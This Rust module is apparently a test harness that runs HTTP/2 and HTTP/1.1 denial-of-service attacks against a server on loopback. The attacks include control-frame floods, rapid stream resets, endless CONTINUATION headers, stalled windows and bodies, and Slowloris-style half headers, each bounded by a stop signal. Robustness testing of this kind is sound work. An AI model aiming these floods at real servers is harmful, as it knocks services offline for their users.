//! What a hostile client does with a connection, for as long as it is let.
//!
//! Each attack keeps so many connections busy at once; one that is ended begins again after a
//! moment. All are bounded in time by their stop signal.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use mesh_runtime::DrainWatch;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

use super::frames::{
    ACK, Ask, CONTINUATION, DATA, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
    greeting, room,
};

/// Streams of a connection that opens many.
const STREAMS: u32 = 100;
/// Frames written at once.
const AT_ONCE: usize = 64;
/// Before a connection that was ended begins again.
const PAUSE: Duration = Duration::from_millis(20);
/// Between two signs of life of a client that only holds on.
const SIGN_OF_LIFE: Duration = Duration::from_secs(1);
/// Half a head, or a body that never comes, is begun by so many connections for each asked for.
const HOLDERS: usize = 10;
/// Where hostile clients come from.
const SOURCE: [u8; 4] = [127, 99, 99, 99];
/// The largest window there is.
const WIDE: u32 = 0x7fff_ffff;

/// An attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, clap::ValueEnum)]
pub enum Attack {
    /// SETTINGS, each to be looked at and answered.
    Settings,
    /// PINGs, each to be answered.
    Pings,
    /// Answers to PINGs that nobody sent.
    PingAnswers,
    /// WINDOW_UPDATEs of one byte.
    WindowUpdates,
    /// PRIORITY.
    Priorities,
    /// Requests that are broken off at once.
    Resets,
    /// DATA without data.
    EmptyData,
    /// A head that never ends.
    Continuations,
    /// 100 large answers with all the room there is, none of which is read.
    GreedyReader,
    /// 100 answers that there is no room for.
    ClosedWindow,
    /// 100 uploads that never come.
    StalledBodies,
    /// HTTP/1.1: a large answer that is not read.
    SlowReader,
    /// HTTP/1.1: half a head, and no more.
    HalfHeads,
    /// Nothing at all.
    Silence,
}

/// Whom to attack.
#[derive(Debug, Clone)]
pub(super) struct Aim {
    pub(super) address: SocketAddr,
    /// The host of a request that is served.
    pub(super) host: String,
}

/// What came of an attack.
#[derive(Debug, Default)]
pub(super) struct Toll {
    /// Connections begun.
    pub(super) begun: AtomicU64,
    /// Those that the other side ended.
    pub(super) ended: AtomicU64,
}

impl Attack {
    /// Attacks with so many connections until told to stop.
    pub(super) async fn run(self, aim: Aim, connections: usize, stop: DrainWatch) -> Arc<Toll> {
        let (aim, toll) = (Arc::new(aim), Arc::<Toll>::default());
        let count = match self {
            Self::HalfHeads | Self::Silence | Self::SlowReader => connections * HOLDERS,
            Self::Settings
            | Self::Pings
            | Self::PingAnswers
            | Self::WindowUpdates
            | Self::Priorities
            | Self::Resets
            | Self::EmptyData
            | Self::Continuations
            | Self::GreedyReader
            | Self::ClosedWindow
            | Self::StalledBodies => connections,
        };
        let mut running = JoinSet::new();
        for _connection in 0..count {
            let (aim, toll, stop) = (Arc::clone(&aim), Arc::clone(&toll), stop.clone());
            running.spawn(async move {
                while !stop.is_triggered() {
                    toll.begun.fetch_add(1, Ordering::Relaxed);
                    tokio::select! {
                        () = stop.triggered() => return,
                        _ended = self.session(&aim) => {}
                    }
                    toll.ended.fetch_add(1, Ordering::Relaxed);
                    tokio::time::sleep(PAUSE).await;
                }
            });
        }
        while running.join_next().await.is_some() {}
        toll
    }

    /// One connection, until the other side ends it.
    async fn session(self, aim: &Aim) -> std::io::Result<()> {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::from((SOURCE, 0)))?;
        let stream = socket.connect(aim.address).await?;
        stream.set_nodelay(true)?;
        let get = |path| Ask {
            host: &aim.host,
            path,
            post: false,
        };
        let post = Ask {
            post: true,
            ..get("/hash")
        };
        let one = 1_u32.to_be_bytes();
        match self {
            Self::Settings => {
                flood(stream, &[], &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255])).await
            }
            Self::Pings => flood(stream, &[], &frame(PING, 0, 0, &[7; 8])).await,
            Self::PingAnswers => flood(stream, &[], &frame(PING, ACK, 0, &[7; 8])).await,
            Self::WindowUpdates => flood(stream, &[], &frame(WINDOW_UPDATE, 0, 0, &one)).await,
            Self::Priorities => flood(stream, &[], &frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])).await,
            Self::EmptyData => flood(stream, &post.head(1, true), &frame(DATA, 0, 1, &[])).await,
            Self::Continuations => {
                let head = get("/echo").head(1, false);
                flood(stream, &head, &frame(CONTINUATION, 0, 1, &[0x82])).await
            }
            Self::Resets => resets(stream, get("/echo")).await,
            Self::GreedyReader => many(stream, WIDE, get("/bytes/262144")).await,
            Self::ClosedWindow => many(stream, 0, get("/bytes/262144")).await,
            Self::StalledBodies => many(stream, WIDE, post).await,
            Self::SlowReader => {
                let host = &aim.host;
                let asked = format!("GET /bytes/10000000 HTTP/1.1\r\nhost: {host}\r\n\r\n");
                hold(stream, asked.as_bytes()).await
            }
            Self::HalfHeads => hold(stream, b"GET / HTTP/1.1\r\nhos").await,
            Self::Silence => hold(stream, b"").await,
        }
    }
}

/// Says hello, and then the same thing again and again, reading whatever is answered.
async fn flood(mut stream: TcpStream, first: &[u8], again: &[u8]) -> std::io::Result<()> {
    stream.write_all(&greeting(WIDE)).await?;
    stream.write_all(first).await?;
    let (mut reader, mut writer) = stream.split();
    let many = again.repeat(AT_ONCE);
    let writing = async {
        loop {
            writer.write_all(&many).await?;
        }
    };
    until_either(drain(&mut reader), writing).await
}

/// Requests, each broken off right away.
async fn resets(mut stream: TcpStream, ask: Ask<'_>) -> std::io::Result<()> {
    stream.write_all(&greeting(WIDE)).await?;
    let (mut reader, mut writer) = stream.split();
    let writing = async {
        for stream in (1..u32::MAX / 2).step_by(2) {
            let mut both = ask.head(stream, true);
            both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            writer.write_all(&both).await?;
        }
        Ok(())
    };
    until_either(drain(&mut reader), writing).await
}

/// As many requests as a connection may have; then signs of life, and nothing is ever read.
async fn many(mut stream: TcpStream, window: u32, ask: Ask<'_>) -> std::io::Result<()> {
    stream.write_all(&greeting(window)).await?;
    stream.write_all(&room(0x3fff_ffff)).await?;
    for number in 0..STREAMS {
        stream.write_all(&ask.head(number * 2 + 1, true)).await?;
    }
    loop {
        tokio::time::sleep(SIGN_OF_LIFE).await;
        // Who answers every question blindly is still there, says the other side's clock.
        stream.write_all(&frame(PING, ACK, 0, &[0; 8])).await?;
    }
}

/// Says something, and then nothing more; notices only that the connection ends.
async fn hold(mut stream: TcpStream, said: &[u8]) -> std::io::Result<()> {
    stream.write_all(said).await?;
    loop {
        tokio::time::sleep(SIGN_OF_LIFE).await;
        if let Some(error) = stream.take_error()? {
            return Err(error);
        }
        // A look that takes nothing away.
        if let Ok(Ok(0)) =
            tokio::time::timeout(Duration::from_millis(1), stream.peek(&mut [0])).await
        {
            return Ok(());
        }
    }
}

async fn drain(reader: &mut (impl AsyncReadExt + Unpin)) -> std::io::Result<()> {
    let mut buffer = vec![0; 16 * 1024];
    while reader.read(&mut buffer).await? > 0 {}
    Ok(())
}

async fn until_either(
    one: impl Future<Output = std::io::Result<()>>,
    other: impl Future<Output = std::io::Result<()>>,
) -> std::io::Result<()> {
    tokio::select! {
        ended = one => ended,
        ended = other => ended,
    }
}
